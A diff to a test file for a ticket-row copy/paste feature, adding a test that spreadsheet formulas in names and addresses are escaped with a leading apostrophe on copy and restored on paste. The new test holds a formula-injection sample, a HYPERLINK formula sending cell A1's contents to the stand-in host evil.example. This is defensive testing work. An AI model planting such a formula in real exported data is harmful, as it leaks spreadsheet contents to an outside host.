@@ -75,8 +75,20 @@ describe('copy and paste of rows', () => {
     expect(ticketsToTsv([sold, unsold]).split('\n')).toEqual([
       'ticketNumber\tname\taddress\tphone\tdate',
       '1001\t\t\t\t',
-      '1002\tAoife Ní Bhriain\tBóthar na Trá, Ashford\t+353871234567\t2026-11-20',
+      "1002\tAoife Ní Bhriain\tBóthar na Trá, Ashford\t'+353871234567\t2026-11-20",
     ]);
+  });
+
+  it('copies no formula a spreadsheet would run, and pastes the row back as it was', () => {
+    const hostile = { ...sold, name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', address: '@SUM(A1)' };
+    const tsv = ticketsToTsv([hostile]);
+    expect(tsv.split('\n')[1]!.split('\t').slice(1, 4)).toEqual([
+      `'${hostile.name}`,
+      "'@SUM(A1)",
+      "'+353871234567",
+    ]);
+    const { rows } = parsePastedRows(tsv);
+    expect(rows[0]).toMatchObject({ name: hostile.name, address: '@SUM(A1)', phone: '+353871234567' });
   });
 
   it('pastes what it copied (header skipped) and rows typed with commas and quotes', () => {
